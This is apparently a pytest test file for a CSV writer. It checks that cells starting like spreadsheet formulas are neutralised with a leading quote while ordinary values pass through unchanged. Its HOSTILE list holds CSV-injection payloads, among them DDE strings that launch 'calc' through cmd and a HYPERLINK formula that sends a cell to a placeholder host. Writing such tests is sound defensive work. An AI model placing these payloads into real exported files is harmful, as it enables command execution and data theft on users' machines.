"""Rows as CSV: what a spreadsheet would run is inert, what is data stays as it is."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from sqloop.terminal.csv_text import write_csv
from sqloop.terminal.table_file import write_table

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1dIMPORTXML(A1)",
    "-A1",
    "+44 20 7946 0018=A1",
]
HONEST = [
    "-5",
    "-5.25",
    "+1.5e-07",
    "+44 20 7946 0018",
    "-",
    "--",
    "a=b",
    "1-2",
    "",
    "2024-01-01",
    "'x'",
    -3,
    2.5,
]


@pytest.mark.parametrize("value", HOSTILE)
def test_no_cell_and_no_heading_begins_a_formula(value: str) -> None:
    for row in csv.reader(StringIO(write_csv([value, "b"], [[value, 1]]), newline="")):
        assert row[0] == f"'{value}"


def test_what_is_no_formula_stays(tmp_path) -> None:  # type: ignore[no-untyped-def]
    rows = [[value] for value in HONEST]
    assert [row[0] if row else "" for row in csv.reader(StringIO(write_csv(["a"], rows)))] == [
        "a",
        *map(str, HONEST),
    ]
    write_table(tmp_path / "x.csv", ["a"], [["=1+1"], ["-5"]])
    assert (tmp_path / "x.csv").read_text() == "a\n'=1+1\n-5\n"
    write_table(tmp_path / "x.json", ["a"], [["=1+1"]])  # for programs, as it is
    assert '"=1+1"' in (tmp_path / "x.json").read_text()
